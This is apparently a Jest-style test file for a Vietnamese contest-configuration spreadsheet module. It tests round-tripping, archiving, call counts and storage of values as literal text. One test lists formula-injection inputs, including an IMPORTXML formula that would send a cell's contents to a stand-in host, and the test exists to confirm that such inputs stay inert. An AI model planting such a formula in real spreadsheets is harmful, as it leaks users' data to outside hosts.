import { readConfiguration, writeConfiguration } from '../../src/app/contest-configuration';
import { presetById } from '../../src/core/config/presets';
import { freshWorkbook as setUp } from './emulated-workbook';

describe('configuration sheets on the emulated spreadsheet', () => {
  it('reads back exactly the configuration it wrote', () => {
    const { workbook } = setUp();
    const config = presetById('dakrong2020').build();
    writeConfiguration(config, workbook, '(cũ)');
    const read = readConfiguration(workbook);
    expect(read.problems.filter((p) => p.severity === 'error')).toEqual([]);
    expect(read.config).toEqual(config);
  });

  it('keeps hostile text literal: a unit named like a formula is stored and read back as text', () => {
    const { emu, workbook } = setUp();
    const config = presetById('hauGiang2024').build();
    const hostile = ['=IMPORTXML("http://x.example/?"&A1,"//a")', '+84912345678', '@SUM(A1)', '0912345678', '16/8/2024'];
    hostile.forEach((name, i) => config.units.push({ code: `X${i}`, name }));
    writeConfiguration(config, workbook, '(cũ)');
    const sheet = emu.activeSpreadsheet.getSheetByName('Đơn vị')!;
    expect(sheet.getDataRange().getFormulas().flat().filter((f) => f !== '')).toEqual([]);
    expect(readConfiguration(workbook).config?.units.map((u) => u.name)).toEqual(config.units.map((u) => u.name));
  });

  it('keeps codes and dates a person types later as text, and explains each column in its header note', () => {
    const { emu, workbook } = setUp();
    writeConfiguration(presetById('hauGiang2024').build(), workbook, '(cũ)');
    const units = emu.activeSpreadsheet.getSheetByName('Đơn vị')!;
    const next = units.getLastRow() + 1;
    expect(emu.userEdit('Đơn vị', `A${next}`, '007', emu.owner).accepted).toBe(true);
    emu.userEdit('Đơn vị', `B${next}`, 'Sở Y tế', emu.owner);
    expect(readConfiguration(workbook).config?.units.map((u) => u.code)).toContain('007');
    const members = emu.activeSpreadsheet.getSheetByName('Thành viên')!;
    expect(emu.inspect.cell(members, 'C1').note).toBe('Ban Tổ chức / Ban Giám khảo / Tổ giúp việc');
  });

  it('costs the same number of service calls whatever the number of units', () => {
    const callsFor = (unitCount: number): number => {
      const { emu, workbook } = setUp();
      const config = presetById('hauGiang2024').build();
      config.units = Array.from({ length: unitCount }, (_, i) => ({ code: `U${i}`, name: `Đơn vị số ${i + 1}` }));
      emu.meter.reset();
      writeConfiguration(config, workbook, '(cũ)');
      readConfiguration(workbook);
      return emu.meter.calls;
    };
    // Past a new sheet's 1,000 rows the grid grows first: one more call, then no more.
    expect(callsFor(5000)).toBe(callsFor(1500));
    expect(callsFor(1500) - callsFor(10)).toBe(1);
  });

  it('setting up again archives the earlier sheets instead of overwriting them', () => {
    const { emu, workbook } = setUp();
    writeConfiguration(presetById('dakrong2020').build(), workbook, '(cũ 1)');
    const result = writeConfiguration(presetById('tanAn2024').build(), workbook, '(cũ 2)');
    expect(result.archived).toContain('Cấu hình (cũ 2)');
    const old = emu.activeSpreadsheet.getSheetByName('Giải thưởng (cũ 2)')!.getDataRange().getValues();
    expect(old.map((r) => r[1])).toContain('Giải Nhất');
    expect(readConfiguration(workbook).config?.identity.code).toBe('TA2024');
  });
});
